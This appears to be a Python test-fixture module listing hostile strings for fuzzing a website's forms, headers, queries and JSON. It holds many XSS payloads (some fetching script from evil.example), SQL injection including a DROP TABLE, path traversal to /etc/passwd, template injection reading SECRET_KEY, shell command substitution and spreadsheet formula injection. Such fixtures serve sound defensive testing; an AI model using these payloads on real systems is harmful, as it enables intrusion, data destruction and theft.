"""What no honest person types: strings by kind, for every text field, query string, header and JSON value of the site.

Everything that would run in a browser carries ``MARK``: where the mark is found in an attribute or a script that a
browser would carry out, something ran (see ``tests/injected.py``).
"""

MARK = "7357"
#: Longer than any field of a person, a title or a question.
LENGTH = 5000
RUN = f"alert({MARK})"

EMPTY = ["", " ", "\t", "\n", "\r\n\r\n", "\u3000", "   \t \n "]

LONG = [
    "x" * LENGTH,
    "é" * LENGTH,
    "م" * LENGTH,
    "\U0001f600" * LENGTH,
    "e" + "\u0301" * LENGTH,  # one letter with 5,000 accents
    "word " * (LENGTH // 5),
    ("سكان " * (LENGTH // 5)).strip(),
    "統計" * (LENGTH // 2),
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * (LENGTH // 5),
    "a\n" * (LENGTH // 2),
    "ﷺ" * LENGTH,  # one sign that unfolds into eighteen
    "ß" * 256,  # grows where it is written in capitals
    "x" * 151,
    "x" * 256,
]

CONTROL = [
    "\x00",
    "a\x00b",
    "a\x00b@example.org",
    "a\x07b",
    "a\x0bb\x0cc",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\x80\x85\x9f",
    "\x1c\x1d\x1e\x1f",
]

INVISIBLE = [
    "\u202etxt.exe",
    "\u2066\u2067\u2068a\u2069",
    "\u200b",
    "zero\u200bwidth\u200cjoin\u200der",
    "\ufeffbegin",
    "\u200e\u200f\u061c",
    "a\u2028b\u2029c",
    "\ufff9a\ufffab\ufffb",
    "\ud7ff\ue000\ufffe\uffff",
    "\U0010ffff\U000e0001\U000e0041",
    "Z\u0351\u036b\u0343a\u0312\u0300l\u031e\u0325g\u0317\u0317o\u0320\u034d",
]

HEADERS = [
    "a@b.c\r\nBcc: all@example.org",
    "a\rBcc: all@example.org",
    "x\r\nSet-Cookie: nonsense=1",
    "x\r\nLocation: https://evil.example/",
    "%0d%0aSet-Cookie:nonsense=1",
    "\u560d\u560aSet-Cookie:nonsense=1",
    "x\r\n\r\n<html>" + RUN,
    "Subject: hello\nTo: all@example.org\n\nbody",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "filename=\"a.html\"; filename*=UTF-8''b.html",
]

MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f"\"'><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<form action=javascript:{RUN}><input type=submit>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f"<base href=//evil.example/{MARK}/>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<div style=\"background:url('javascript:{RUN}')\">",
    f"<nonsense-{MARK}>",
    f"<p>unclosed <b>bold <nonsense-{MARK} x='",
    f"<div onmouseover={RUN} style=position:fixed;inset:0>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<div hx-get=//evil.example/{MARK} hx-trigger=load>",
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f"x onfocus={RUN} autofocus",
    f"`onfocus={RUN}`",
    f'"><nonsense-{MARK}>',
    f"'><nonsense-{MARK}>",
    f'" style="position:fixed;inset:0" onmouseover="{RUN}',
    f"javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCg3MzU3KTwvc2NyaXB0Pg==#{MARK}",
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"[x](javascript:{RUN})",
    f"<p>{'<b>' * 300}{RUN}",
]

TEMPLATES = [
    "{{ 7|add:7350 }}",
    "{% now 'Y' %}",
    "{% load nonsense %}",
    "{{ settings.SECRET_KEY }}",
    "{{",
    "{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(7357)')()}}",
    "%(name)s %s %d %",
    "{0} {name} {0.__class__}",
    "$(id) `id` ; id | id && id",
]

QUERIES = [
    "' OR '1'='1' --",
    "'; DROP TABLE accounts_user; --",
    "' UNION SELECT NULL, NULL --",
    "%' OR '%'='%",
    "\\'",
    '"unclosed',
    "a AND OR NOT NEAR b",
    "title:x^2 (a | b & !c) :*",
    "a\"b'c`d",
    "(((((((((((((((((((((",
]

PATHS = [
    "../../../../etc/passwd",
    "/etc/passwd\x00.png",
    "%2e%2e%2f%2e%2e%2f",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "https://evil.example/",
    "http://[::1",
    "http://evil.example:99999/",
    "/\t/evil.example/",
    "/\r\n/evil.example/",
    "https://testserver@evil.example/",
    "..",
    "?a=b#c",
]

NUMBERS = [
    "0",
    "-1",
    "1.5",
    "1e999",
    "NaN",
    "Infinity",
    "9" * 19,
    "9" * 40,
    "9" * LENGTH,
    "-" + "9" * 40,
    "9223372036854775808",
    "1_000",
    "٣٤٥",
    "²",
    "𝟙𝟚𝟛",
    "9999-99-99T99:99:99Z",
    "10000-01-01",
]

WORDS = [
    "null",
    "true",
    "NULL",
    "constructor",
    "__proto__",
]

JSON = [
    "[]",
    "{}",
    '""',
    '{"id": null}',
    '{"id": "x", "rawId": "x", "type": "public-key", "response": {}}',
    '{"a": "\\ud800"}',
    '{"a": "\\u0000"}',
    "[" * 2000,
    "{" + '"a":{' * 1000,
    '{"__proto__": {"x": 1}}',
    "[NaN, Infinity]",
]

KEYS = [
    "00000000-0000-0000-0000-000000000000",
    "00000000-0000-0000-0000-00000000000",
    "00000000-0000-0000-0000-0000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "ZZZZ-ZZZZ-ZZZZ-ZZZZ",
]

SHEETS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/","x")',
    "@SUM(1)",
    "\t=1",
]

ADDRESSES = [
    "test@" + "x" * 250 + ".org",
    "x" * 300 + "@example.org",
    "@",
    '"a b"@example.org',
    "a@[127.0.0.1]",
    "a@xn--a.org",
    "a@пример.рф",
    "a@example.org, b@example.org",
    "A <a@example.org>",
    "a@example.org\u0000",
    "ａ@example.org",
    "admın@example.org",  # a dotless i: the same as the administrator's where capitals are compared
]

SLOW = [
    "a" * 60 + "!",
    "a," * 2000,
    "<" * 3000,
    "&" * 3000,
    "@" * 3000,
]

KINDS = {
    "empty": EMPTY,
    "long": LONG,
    "control": CONTROL,
    "invisible": INVISIBLE,
    "headers": HEADERS,
    "markup": MARKUP,
    "templates": TEMPLATES,
    "queries": QUERIES,
    "paths": PATHS,
    "numbers": NUMBERS,
    "words": WORDS,
    "json": JSON,
    "keys": KEYS,
    "sheets": SHEETS,
    "addresses": ADDRESSES,
    "slow": SLOW,
}
NONSENSE = [text for texts in KINDS.values() for text in texts]

#: For the tests that cannot afford them all.
NASTY = [
    "",
    "x" * LENGTH,
    "\U0001f600" * LENGTH,
    "a\x00b",
    "\u202ea\u2028b\u200b",
    "a@b.c\r\nBcc: all@example.org",
    f"<script>{RUN}</script>",
    f"\"'><img src=x onerror={RUN}>",
    f"javascript:{RUN}",
    "{{ 7|add:7350 }}{% now 'Y' %}",
    "%' OR '1'='1' --",
    "9" * 40,
    "NaN",
    "//evil.example/",
    "[" * 2000,
]

#: Half of a pair: no form can carry it, but JSON can, and so can bytes that are no UTF-8.
LONE_SURROGATE = "\ud83d"
BAD_BYTES = [b"%ff%fe", b"%c0%ae", b"%ed%a0%80", b"%f5%80%80%80", b"%", b"%zz", b"%u0041"]

#: What JSON can say where a text, a number or an object is expected.
WRONG_TYPES = [
    None,
    True,
    0,
    -1,
    1e308,
    2**70,
    "",
    [],
    [[]],
    {},
    {"": ""},
    [None],
    {"a": {"a": {}}},
    LONE_SURROGATE,
    "a\x00b",
]
